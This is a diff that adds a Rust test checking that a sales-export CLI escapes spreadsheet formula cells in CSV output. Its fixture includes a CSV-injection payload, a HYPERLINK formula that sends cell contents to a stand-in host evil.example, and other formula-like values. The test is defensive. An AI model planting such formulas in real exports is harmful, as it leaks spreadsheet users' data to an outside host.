@@ -387,3 +387,53 @@ async fn output_streams_page_by_page_before_the_list_is_complete() {
     assert!(last.contains("B28UKN-dvxYabdavG97Y-Q=="), "{last}");
     assert!(child.wait().await.unwrap().success());
 }
+
+/// A spreadsheet must not run a cell of `creator sales --format csv` as a
+/// formula: a product named `=HYPERLINK(…)` or a buyer email `-2+3…` (both
+/// chosen by other people) are written with a leading `'`.
+#[tokio::test]
+async fn sales_csv_neutralises_formula_cells_from_the_platform() {
+    let mut page: serde_json::Value =
+        serde_json::from_slice(&fixture("gumroad/sales_page3.json")).unwrap();
+    let first = page["sales"][0].clone();
+    let mut second = first.clone();
+    page["sales"][0]["product_name"] =
+        r#"=HYPERLINK("https://evil.example/?d="&A1,"Pencil pack")"#.into();
+    second["id"] = "c2Vjb25kU2FsZQ==".into();
+    second["product_name"] = "-2+3".into();
+    second["email"] = "@SUM(1+1)@example.com".into();
+    second["purchase_email"] = "@SUM(1+1)@example.com".into();
+    page["sales"] = serde_json::json!([page["sales"][0], second]);
+    let server = MockServer::start().await;
+    Mock::given(method("GET"))
+        .and(path("/v2/sales"))
+        .respond_with(
+            ResponseTemplate::new(200)
+                .set_body_raw(serde_json::to_vec(&page).unwrap(), "application/json"),
+        )
+        .mount(&server)
+        .await;
+    mount_fallback(&server).await;
+    let mut cmd = creator();
+    cmd.args(["sales", "--provider", "gumroad", "--format", "csv"])
+        .env("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN)
+        .env("GUMROAD_API_URL", server.uri());
+    let out = run(cmd).await;
+    assert!(out.status.success(), "{}", stderr(&out));
+    let csv = stdout(&out);
+    let rows: Vec<&str> = csv.lines().collect();
+    assert_eq!(rows.len(), 3, "{csv}");
+    assert!(
+        rows[1].contains(
+            r#","'=HYPERLINK(""https://evil.example/?d=""&A1,""Pencil pack"")",guest@example.com,9.60,USD,"#
+        ),
+        "{csv}"
+    );
+    assert!(
+        rows[2].contains(",'-2+3,'@SUM(1+1)@example.com,9.60,USD,"),
+        "{csv}"
+    );
+    for cell in rows.iter().flat_map(|r| r.split(',')) {
+        assert!(!cell.starts_with(['=', '+', '@']), "{cell} in {csv}");
+    }
+}
